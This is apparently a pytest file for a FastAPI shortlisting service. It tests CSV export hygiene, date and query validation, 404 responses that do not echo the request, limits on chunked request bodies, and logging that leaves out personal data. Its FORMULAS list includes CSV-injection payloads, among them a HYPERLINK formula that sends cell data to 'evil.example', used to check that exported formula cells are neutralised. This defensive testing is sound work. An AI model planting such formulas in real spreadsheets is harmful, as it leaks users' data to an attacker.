"""The smaller holes: CSV formulas, empty comparisons, dates, 404 texts, chunked bodies."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from features.export import Export
from serving import errors, exports
from serving.app import create_app
from serving.auth import create_api_key, create_user, issue_key
from tests.conftest import LogLines, personal_data
from tests.serving.conftest import Keys, service_settings
from tests.serving.test_pages_kit import sign_in

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(A1:A9)", "+1+2", "-2+3")


def _shortlist(client: TestClient, keys: Keys, vacancy: str, **filters: str) -> dict:
    response = client.post(
        "/v1/shortlists",
        json={"position_id": vacancy, "k": 3, "filters": filters},
        headers=keys.header("admin"),
    )
    assert response.status_code == 201, response.text
    return response.json()


@pytest.mark.parametrize("formula", [*FORMULAS, "\tcmd", "\rcmd"])
def test_a_formula_cell_gets_a_leading_apostrophe(formula: str) -> None:
    assert exports.neutralised(formula) == "'" + formula


@pytest.mark.parametrize("plain", ["-0.1234", "+3", "12", "Budi", "", "a=b"])
def test_numbers_and_plain_text_are_kept(plain: str) -> None:
    assert exports.neutralised(plain) == plain


def test_the_csv_export_neutralises_formulas_typed_into_decisions(
    service: tuple[TestClient, Keys], vacancy: str, small_export: Export
) -> None:
    """A formula in a reason and in a member's name (the reviewer column) is defused."""
    client, keys = service
    body = _shortlist(client, keys, vacancy)
    nip = body["candidates"][0]["nip"]
    path = f"/v1/shortlists/{body['shortlist_id']}"
    db = client.app.state.db  # type: ignore[attr-defined]
    agency = str(small_export.positions["agency_id"].iloc[0])
    member = create_user(db, "committee", agency, FORMULAS[1], None, None)
    headers = {"Authorization": f"Bearer {issue_key(db, member)[1]}"}
    declared = client.post(f"{path}/declarations", json={"kind": "none"}, headers=headers)
    assert declared.status_code == 201, declared.text
    decided = client.post(
        f"{path}/decisions",
        json={"nip": nip, "decision": "SHORTLISTED", "reason": FORMULAS[0]},
        headers=headers,
    )
    assert decided.status_code == 201, decided.text
    text = client.get(f"{path}/export.csv", headers=keys.header("admin")).text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]


def test_comparing_an_empty_shortlist_is_an_empty_page_not_a_500(
    service: tuple[TestClient, Keys], vacancy: str
) -> None:
    client, keys = service
    empty = _shortlist(client, keys, vacancy, unit_id="NO-SUCH-UNIT")
    assert empty["candidates"] == []
    sign_in(client, keys.admin)
    page = client.get(f"/shortlists/{empty['shortlist_id']}/compare")
    client.cookies.clear()
    assert page.status_code == 200 and 'scope="row"' not in page.text


@pytest.mark.parametrize(
    ("name", "value"),
    [("to", "0"), ("to", "1700000000"), ("from", "0"), ("to", "20261101"), ("to", "2026-13-01")],
)
def test_a_report_date_must_be_written_as_a_date(
    service: tuple[TestClient, Keys], name: str, value: str
) -> None:
    client, keys = service
    response = client.get(
        "/v1/reports/divergence", params={name: value}, headers=keys.header("admin")
    )
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert f"query.{name}" in response.json()["detail"]


def test_a_report_date_written_as_a_date_is_read(service: tuple[TestClient, Keys]) -> None:
    client, keys = service
    response = client.get(
        "/v1/reports/divergence",
        params={"from": "2026-01-01", "to": "2026-11-01"},
        headers=keys.header("admin"),
    )
    assert response.status_code == 200, response.text
    assert (response.json()["from"], response.json()["to"]) == ("2026-01-01", "2026-11-01")


UNKNOWN_ID = "0badc0de-0000-4000-8000-00000000abcd"
UNKNOWN_NIP = "199001012020121999"


@pytest.mark.parametrize(
    ("method", "path", "payload", "echo"),
    [
        ("get", f"/v1/shortlists/{UNKNOWN_ID}", None, UNKNOWN_ID),
        ("get", f"/v1/shortlists/{UNKNOWN_ID}/decisions", None, UNKNOWN_ID),
        ("get", f"/v1/shortlists/{UNKNOWN_ID}/export.csv", None, UNKNOWN_ID),
        ("get", f"/v1/campaigns/{UNKNOWN_ID}", None, UNKNOWN_ID),
        ("post", "/v1/shortlists", {"position_id": "NOPE-4711"}, "NOPE-4711"),
        ("post", "/v1/campaigns", {"position_ids": ["NOPE-4711"]}, "NOPE-4711"),
        ("post", "/v1/campaigns", {"agency_id": "AGENCY-4711"}, "AGENCY-4711"),
        ("get", "/v1/candidates/{nip}/fit?position_id=NOPE-4711", None, "NOPE-4711"),
        ("get", f"/v1/candidates/{UNKNOWN_NIP}/fit?position_id={{vacancy}}", None, UNKNOWN_NIP),
    ],
)
def test_not_found_never_echoes_the_request(
    service: tuple[TestClient, Keys],
    vacancy: str,
    method: str,
    path: str,
    payload: dict | None,
    echo: str,
) -> None:
    client, keys = service
    url = path.format(nip=UNKNOWN_NIP, vacancy=vacancy)
    response = client.request(method, url, json=payload, headers=keys.header("admin"))
    assert response.status_code == 404, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert echo not in response.text and "not found" in response.json()["title"].lower()


FIFTY_MB = 50 * 2**20


def test_a_chunked_body_over_the_limit_is_refused_without_reading_it_all(
    service: tuple[TestClient, Keys],
) -> None:
    """50 MB streamed without a Content-Length: 413 after the first chunks, the rest unread."""
    client, keys = service
    chunk, given = b"x" * 65_536, 0

    async def receive() -> dict:
        nonlocal given
        given += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": given < FIFTY_MB}

    sent: list[dict] = []

    async def send(message: dict) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/v1/shortlists",
        "raw_path": b"/v1/shortlists",
        "root_path": "",
        "query_string": b"",
        "headers": [
            (b"transfer-encoding", b"chunked"),
            (b"content-type", b"application/json"),
            (b"authorization", keys.header("admin")["Authorization"].encode()),
        ],
        "client": ("127.0.0.1", 5000),
        "server": ("testserver", 80),
    }
    asyncio.run(client.app(scope, receive, send))
    start = next(m for m in sent if m["type"] == "http.response.start")
    assert start["status"] == 413
    assert (b"content-type", b"application/problem+json") in start["headers"]
    assert given <= 2 * len(chunk) < FIFTY_MB


def test_a_chunked_body_under_the_limit_reaches_the_route(
    service: tuple[TestClient, Keys], vacancy: str
) -> None:
    client, keys = service
    body = json.dumps({"position_id": vacancy, "k": 2}).encode()
    response = client.post(
        "/v1/shortlists",
        content=(body[i : i + 7] for i in range(0, len(body), 7)),
        headers={**keys.header("admin"), "content-type": "application/json"},
    )
    assert "content-length" not in response.request.headers
    assert response.status_code == 201, response.text


def test_health_says_not_ready_without_quoting_a_broken_export(
    small_export_dir: Path, tmp_path: Path
) -> None:
    broken = tmp_path / "broken"
    shutil.copytree(small_export_dir, broken)
    employees = broken / "employees.csv"
    lines = employees.read_text(encoding="utf-8").splitlines(keepends=True)
    employees.write_text("".join([*lines, lines[1]]), encoding="utf-8")
    nip = lines[1].split(",", 1)[0]
    with TestClient(create_app(service_settings(tmp_path), data_dir=broken)) as client:
        health = client.get("/health")
        assert health.status_code == 503 and health.json() == {"status": "not ready"}
        admin = {"Authorization": f"Bearer {create_api_key(client.app.state.db, 'admin', None)[1]}"}
        status = client.get("/v1/admin/status", headers=admin)
        reload = client.post("/v1/admin/reload", headers=admin)
        assert 400 <= reload.status_code < 500 and nip not in client.get("/health").text
        assert client.get("/health").status_code == 503  # the failed reload kept the runtime
    assert status.json()["status"] == "not ready" and nip in status.json()["reason"]


def test_an_undeclared_query_parameter_is_refused(service: tuple[TestClient, Keys]) -> None:
    client, keys = service
    refused = client.get("/v1/model", params={"debug": "1"}, headers=keys.header("admin"))
    assert refused.status_code == 422 and "debug" not in refused.text
    kept = client.get("/v1/positions", params={"vacant": "true"}, headers=keys.header("admin"))
    assert kept.status_code == 200


@pytest.mark.parametrize("flag", ["0", "1", "yes", "on"])
def test_a_query_flag_is_true_or_false_only(service: tuple[TestClient, Keys], flag: str) -> None:
    client, keys = service
    response = client.get("/v1/positions", params={"vacant": flag}, headers=keys.header("admin"))
    assert response.status_code == 422 and "query.vacant" in response.json()["detail"]


def test_an_unexpected_error_is_logged_by_type_and_request_id_never_by_its_message(
    log_lines: LogLines,
) -> None:
    """A 500's message may quote a NIP: the log has its type, route template and request id."""
    app = FastAPI()
    errors.install(app)

    @app.get("/boom/{nip}")
    def boom(nip: str) -> None:
        raise RuntimeError(f"no employee {nip}")

    start = len(log_lines.lines)
    with TestClient(app) as client:
        response = client.get("/boom/199001012020011999")
    assert response.status_code == 500
    assert response.headers["content-type"] == "application/problem+json"
    request_id = response.json()["request_id"]
    assert "1990010120" not in response.text
    lines = log_lines.lines[start:]
    assert any(
        f"unexpected error RuntimeError in GET /boom/{{nip}} (request {request_id})" in line
        for line in lines
    ), lines
    assert "test_hygiene.py" in "".join(lines)  # the frames, to find the bug
    assert personal_data(lines) == []
